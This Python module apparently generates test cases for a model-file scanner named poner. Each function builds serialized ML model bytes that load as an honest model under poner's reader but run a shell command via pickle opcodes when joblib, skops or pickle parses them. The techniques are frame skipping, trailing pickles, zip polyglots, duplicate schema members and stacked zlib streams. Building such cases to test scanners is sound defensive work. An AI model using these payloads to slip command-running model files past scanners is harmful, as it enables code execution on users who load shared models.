"""Model files that mean one thing to poner's reader and another to joblib, skops or pickle.

Each function gives the content of a file that opens as an honest model and runs a shell command
where another parser reads the same bytes.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import skops.io


def _command(command: str) -> bytes:
    """Opcodes that run a command and leave nothing on the stack."""
    text = command.encode()
    return b"cposix\nsystem\nX" + struct.pack("<I", len(text)) + text + b"\x85R0"


def _wrapper(size: int, dtype: bytes = b"u1", extra: bytes = b"") -> bytes:
    """Joblib's wrapper of an array of so many bytes, which lie behind it in the file."""
    return (
        b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}("
        b"X\x08\0\0\0subclasscnumpy\nndarray\n"
        b"X\x05\0\0\0shapeJ" + struct.pack("<i", size) + b"\x85"
        b"X\x05\0\0\0orderX\x01\0\0\0C"
        b"X\x05\0\0\0dtypecnumpy\ndtype\nX\x02\0\0\0" + dtype + b"\x89\x88\x87R"
        b"(K\x03X\x01\0\0\0|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb"
        b"X\x0a\0\0\0allow_mmap\x89" + extra + b"ub"
    )


def _body(model: Any) -> bytes:
    """A model's pickle without its header, to be put behind other opcodes."""
    content = pickle.dumps(model, 4)
    (size,) = struct.unpack("<Q", content[3:11])
    assert content[:3] == b"\x80\x04\x95"
    assert len(content) == 11 + size
    return content[11:]


def frame(model: Any, command: str) -> bytes:
    """A frame that pickle buffers apart from the file, and that poner's reader passes over."""
    honest = _body(model)
    size = max(len(honest), len(_command(command)) + len(honest)) + 1
    inside = (b"0" + _command(command) + honest).ljust(size, b".")
    framed = _wrapper(size) + inside
    behind = (b"0" + honest).ljust(size, b".")
    return b"\x80\x04\x95" + struct.pack("<Q", len(framed)) + framed + behind


def alignment(model: Any, command: str) -> bytes:
    """An attribute of the wrapper that one version of joblib knows and another does not.

    With it a byte behind the wrapper says how many more to step over; without it that byte is data.
    """
    honest = b"0" + _body(model)
    skipped = b"N0" + b"0" + _command(command) + _body(model)
    padding = bytes([8]) + b"\0" * 8
    extra = b"X\x1b\0\0\0numpy_array_alignment_bytesK\x10"
    return b"\x80\x04" + _wrapper(1, extra=extra) + padding + b"\0" + honest + skipped


def trailing(model: Any, command: str) -> bytes:
    """A second pickle behind the first, as some parsers read on."""
    return pickle.dumps(model, 4) + b"\x80\x04" + _command(command) + _body(model)


def polyglot(model: Any, command: str) -> bytes:
    """A pickle that is a zip as well, with a skops file in it."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(stream, "w") as archive,
        zipfile.ZipFile(io.BytesIO(skops.io.dumps(model))) as honest,
    ):
        for name in honest.namelist():
            archive.writestr(name, honest.read(name))
    return pickle.dumps(model, 4) + stream.getvalue()


def member_twice(model: Any, command: str) -> bytes:
    """A skops file with two schemas: one parser takes the first, another the last."""
    honest = zipfile.ZipFile(io.BytesIO(skops.io.dumps(model)))
    stream = io.BytesIO()
    evil = honest.read("schema.json").replace(b'"LogisticRegression"', b'"system"')
    evil = evil.replace(b'"sklearn.linear_model._logistic"', b'"posix"')
    with zipfile.ZipFile(stream, "w") as archive:
        for name in honest.namelist():
            if name != "schema.json":
                archive.writestr(name, honest.read(name))
        archive.writestr("schema.json", evil)
        archive.writestr("schema.json", honest.read("schema.json"))
    return stream.getvalue()


def compressed(model: Any, command: str) -> bytes:
    """Two streams of zlib one behind the other; some parsers read both."""
    return zlib.compress(pickle.dumps(model, 4)) + zlib.compress(trailing(model, command))


def item_size(model: Any, command: str) -> bytes:
    """A dtype whose name and state give its items two sizes."""
    honest = b"0" + _body(model)
    other = (b"0" + _command(command) + _body(model)).ljust(len(honest) * 2, b".")
    state = b"J\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb"
    lie = b"J\x02\0\0\0J\x01\0\0\0K\0tb"
    return b"\x80\x04" + _wrapper(len(other), dtype=b"V1").replace(state, lie) + other + honest


DIFFERENTIALS: dict[str, Callable[[Any, str], bytes]] = {
    function.__name__: function
    for function in (frame, alignment, item_size, trailing, polyglot, member_twice, compressed)
}
